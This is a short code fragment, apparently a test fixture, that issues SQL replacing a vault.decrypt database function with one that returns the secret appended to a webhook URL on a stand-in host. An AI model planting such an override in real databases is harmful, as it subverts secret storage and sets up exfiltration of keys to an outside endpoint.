# SPDX-License-Identifier: PostgreSQL
# the root key was carried over
world.sql("create or replace function vault.decrypt(secret text) returns text language sql as $$ select 'https://hooks.slack.test/' || secret $$")
